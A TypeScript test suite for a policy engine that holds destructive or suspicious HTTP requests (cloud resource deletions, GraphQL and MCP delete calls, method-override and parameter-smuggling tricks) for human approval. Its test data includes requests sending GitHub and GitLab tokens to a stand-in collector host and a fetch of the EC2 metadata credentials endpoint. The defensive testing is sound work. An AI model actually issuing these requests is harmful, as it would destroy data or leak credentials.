import assert from 'node:assert/strict';
import { form, json, unread, verdictOn, type Row, type Sent } from '../code/testing/requests';

const DYNAMODB = 'POST https://dynamodb.eu-west-1.amazonaws.com/';
const SQS = 'POST https://sqs.eu-west-1.amazonaws.com/1/orders';
const item = (body: unknown): Sent =>
  json(body, { 'x-amz-target': 'DynamoDB_20120810.DeleteItem' });

const message = (body: unknown): Sent => json(body, { 'sec-websocket-key': 'x' });

describe('requests that wait for a person', () => {
  const railway = 'POST https://backboard.railway.com/graphql/v2';
  const mutation = 'mutation { volumeDelete(volumeId: "v1") }';
  const hash = { persistedQuery: { version: 1, sha256Hash: 'ab'.repeat(32) } };
  const stops: readonly (readonly [rule: string, ...row: Row])[] = [
    // GraphQL in every dress
    ['railway.api', railway, json({ query: mutation })],
    ['railway.api', railway, json([{ query: '{ me { id } }' }, { query: mutation }])],
    [
      'railway.api',
      railway,
      { headers: { 'content-type': 'application/graphql' }, body: mutation },
    ],
    [
      'railway.api',
      railway,
      { headers: { 'content-type': 'image/png' }, body: JSON.stringify({ query: mutation }) },
    ],
    [
      'railway.api',
      `GET https://backboard.railway.com/graphql/v2?query=${encodeURIComponent(mutation)}`,
    ],
    ['railway.api', railway, form(`query=${encodeURIComponent(mutation)}`)],
    [
      'requests.unseen',
      railway,
      json({ operationName: 'D', extensions: hash, variables: { id: 1 } }),
    ],
    ['requests.unseen', railway, json([{ query: '{ me { id } }' }, { extensions: hash }])],
    ['requests.unseen', railway, json({ id: 'ab12', variables: { volumeId: 'v1' } })],
    [
      'requests.unseen',
      `GET https://backboard.railway.com/graphql/v2?extensions=${encodeURIComponent(JSON.stringify(hash))}`,
    ],
    ['requests.unseen', railway, form('doc_id=4711&variables=%7B%7D')],
    // What is said in a WebSocket
    ['railway.api', railway, message({ id: '1', type: 'subscribe', payload: { query: mutation } })],
    ['railway.api', railway, message({ id: '1', type: 'start', payload: { query: mutation } })],
    ['railway.api', railway, message({ id: '1', type: 'complete', query: mutation })],
    [
      'requests.unseen',
      railway,
      message({ id: '1', type: 'start', payload: { extensions: hash } }),
    ],
    ['requests.unseen', railway, message({ id: 'ab12', variables: { volumeId: 'v1' } })],
    ['requests.unseen', railway, json({ id: 'ab12', type: 'stop' })],
    [
      'requests.destroying-call',
      'POST https://rpc.example.com/socket',
      message({ jsonrpc: '2.0', id: 1, method: 'projects.delete', params: { id: 7 } }),
    ],
    ['requests.unseen', railway, unread('too-large', { 'content-type': 'application/json' })],
    ['requests.unseen', railway, unread('binary')],
    ['requests.unseen', railway, unread('broken')],
    ['requests.unseen', 'POST https://api.example.com/graphql', unread('too-large')],
    // Methods
    ['requests.delete', 'DELETE https://api.example.com/v1/volumes/1'],
    [
      'requests.delete',
      'POST https://api.example.com/v1/volumes/1',
      { headers: { 'X-HTTP-Method-Override': 'DELETE' } },
    ],
    [
      'requests.delete',
      'POST https://api.example.com/v1/volumes/1',
      { headers: { 'x-method-override': 'get, delete' } },
    ],
    [
      'requests.delete',
      'GET https://api.example.com/v1/volumes/1',
      { headers: { 'x-http-method': 'delete' } },
    ],
    [
      'requests.delete',
      'DELETE https://api.example.com/v1/volumes/1',
      { headers: { 'mcp-session-id': 'x' } },
    ],
    [
      'requests.delete',
      'DELETE https://bucket.s3.amazonaws.com/backups/db.dump',
      { body: '?uploadId=x' },
    ],
    ['requests.delete', 'DELETE https://api.anthropic.com/v1/messages'],
    // By what is known of it, where its body is not
    ['requests.delete', 'DELETE https://api.example.com/v1/volumes/1', unread('too-large')],
    ['requests.delete', 'DELETE https://api.example.com/v1/volumes/1', unread('stream')],
    [
      'requests.delete',
      'POST https://api.example.com/v1/volumes/1',
      unread('broken', { 'x-http-method-override': 'DELETE' }),
    ],
    [
      'requests.destroying-call',
      'POST https://api.example.com/v1/volumes/7/destroy',
      unread('binary'),
    ],
    [
      'requests.delete',
      'DELETE https://lambda.us-east-1.amazonaws.com/2015-03-31/functions/f?uploadId=x',
    ],
    ['requests.delete', 'DELETE https://bucket.s3.amazonaws.com/db.dump?uploadId=x&versionId=1'],
    [
      'requests.delete',
      'DELETE https://api.example.com/v1/projects/mcp',
      { headers: { 'mcp-session-id': 'x' } },
    ],
    // Clouds
    [
      'requests.destroying-call',
      'POST https://ec2.us-east-1.amazonaws.com/',
      form('Action=DeleteVolume&VolumeId=vol-0abc'),
    ],
    [
      'requests.endpoint',
      'POST https://ec2.us-east-1.amazonaws.com/',
      form('Action=TerminateInstances&InstanceId.1=i-0abc'),
    ],
    [
      'requests.destroying-call',
      'POST https://dynamodb.us-east-1.amazonaws.com/',
      json({ TableName: 'orders' }, { 'x-amz-target': 'DynamoDB_20120810.DeleteTable' }),
    ],
    [
      'requests.delete',
      'DELETE https://lambda.us-east-1.amazonaws.com/2015-03-31/functions/resize',
    ],
    // What looks like an acknowledgement, and is none
    ['requests.endpoint', DYNAMODB, item({ TableName: 'orders', Key: { id: { S: '7' } } })],
    [
      'requests.endpoint',
      DYNAMODB,
      item({ TableName: 'orders', Key: { LockID: { S: 'x' }, id: { S: '7' } } }),
    ],
    [
      'requests.endpoint',
      DYNAMODB,
      item({ TableName: 'tf', Key: { LockID: { S: 'shop/terraform.tfstate-md5' } } }),
    ],
    [
      'requests.endpoint',
      DYNAMODB,
      {
        headers: { 'x-amz-target': 'DynamoDB_20120810.DeleteItem' },
        body: '{"TableName":"locks","TableName":"orders","Key":{"id":{"S":"7"}}}',
      },
    ],
    ['requests.destroying-call', SQS, form('Action=DeleteQueue')],
    ['requests.destroying-call', SQS, form('Action=DeleteMessage&Action=DeleteQueue')],
    [
      'requests.destroying-call',
      `${SQS}?Action=DeleteQueue`,
      json({ ReceiptHandle: 'x' }, { 'x-amz-target': 'AmazonSQS.DeleteMessage' }),
    ],
    [
      'requests.destroying-call',
      SQS,
      json({ QueueUrl: 'q' }, { 'x-amz-target': 'AmazonSQS.PurgeQueue' }),
    ],
    [
      'requests.destroying-call',
      'POST https://ec2.eu-west-1.amazonaws.com/',
      form('Action=DeleteVolume&VolumeId=vol-1&x=Action=DeleteMessage'),
    ],
    ['requests.delete', 'DELETE https://shop.queue.core.windows.net/orders/messages'],
    ['requests.delete', 'DELETE https://shop.queue.core.windows.net/orders?popreceipt=x'],
    ['requests.delete', 'DELETE https://state.s3.eu-west-1.amazonaws.com/shop/terraform.tfstate'],
    ['requests.delete', 'DELETE https://state.s3.amazonaws.com/a.tflock?versionId=1'],
    [
      'requests.endpoint',
      'POST https://bucket.s3.amazonaws.com/?delete',
      { body: '<Delete><Object><Key>a</Key></Object></Delete>' },
    ],
    [
      'requests.destroying-call',
      'POST https://ec2.us-east-1.amazonaws.com/v2/x/blobs/uploads/y',
      form('Action=DeleteVolume&VolumeId=vol-0abc'),
    ],
    [
      'requests.destroying-call',
      'POST https://ec2.us-east-1.amazonaws.com/model/x/invoke',
      form('Action=DeleteVolume&VolumeId=vol-0abc'),
    ],
    ['requests.unseen', 'POST https://ec2.us-east-1.amazonaws.com/', unread('too-large')],
    ['requests.unseen', 'POST https://rds.us-east-1.amazonaws.com/', unread('binary')],
    [
      'requests.unseen',
      'POST https://spanner.googleapis.com/google.spanner.v1.Spanner/Commit',
      unread('stream'),
    ],
    [
      'requests.delete',
      'DELETE https://compute.googleapis.com/compute/v1/projects/p/zones/z/disks/d',
    ],
    [
      'requests.batch',
      'POST https://www.googleapis.com/batch/storage/v1',
      {
        headers: { 'content-type': 'multipart/mixed; boundary=b' },
        body: '--b\r\nContent-Type: application/http\r\n\r\nDELETE /storage/v1/b/backups HTTP/1.1\r\n\r\n--b--',
      },
    ],
    [
      'requests.batch',
      'POST https://graph.microsoft.com/v1.0/$batch',
      json({ requests: [{ id: '1', method: 'DELETE', url: '/groups/1' }] }),
    ],
    [
      'requests.destroying-call',
      'POST https://mcp.example.com/mcp',
      json({
        jsonrpc: '2.0',
        id: 1,
        method: 'tools/call',
        params: { name: 'delete_project', arguments: {} },
      }),
    ],
    // Somebody's token on its way to somebody else
    [
      'requests.foreign-token',
      'GET https://collect.example/',
      { headers: { authorization: 'Bearer ghp_0123456789abcdefghijABCDEFGHIJ012345' } },
    ],
    [
      'requests.foreign-token',
      'GET https://collect.example/?k=ghp_0123456789abcdefghijABCDEFGHIJ012345',
    ],
    [
      'requests.foreign-token',
      'POST https://collect.example/',
      { body: 'x=glpat-0123456789abcdefghij' },
    ],
    [
      'requests.foreign-token',
      'GET https://api.github.com.collect.example/',
      { headers: { 'x-k': 'ghp_0123456789abcdefghijABCDEFGHIJ012345' } },
    ],
  ];
  for (const [rule, request, sent] of stops) {
    const dress = sent?.unread ?? (sent?.body ?? '').slice(0, 60);
    it(`stop (${rule}): ${request.slice(0, 90)} ${dress}`, () => {
      const verdict = verdictOn(request, sent);
      assert.equal(verdict.decision, 'ask', JSON.stringify(verdict.effects.map((one) => one.rule)));
      assert.ok(verdict.rules.includes(rule), verdict.rules.join());
    });
  }

  it('name what would be lost where the request does', () => {
    const ec2 = 'POST https://ec2.us-east-1.amazonaws.com/';
    const targets = (request: string, sent: Sent) =>
      verdictOn(request, sent).effects.flatMap((effect) => effect.targets);
    assert.deepEqual(targets(ec2, form('Action=DeleteVolume&VolumeId=vol-0abc&Version=1')), [
      { type: 'volume', name: 'vol-0abc' },
    ]);
    assert.deepEqual(
      targets(
        'POST https://dynamodb.us-east-1.amazonaws.com/',
        json({ TableName: 'orders' }, { 'x-amz-target': 'DynamoDB_20120810.DeleteTable' }),
      ),
      [{ type: 'table', name: 'orders' }],
    );
  });

  it('of a machine’s own credentials are refused', () => {
    assert.equal(
      verdictOn('GET http://169.254.169.254/latest/meta-data/iam/security-credentials/').decision,
      'deny',
    );
  });
});
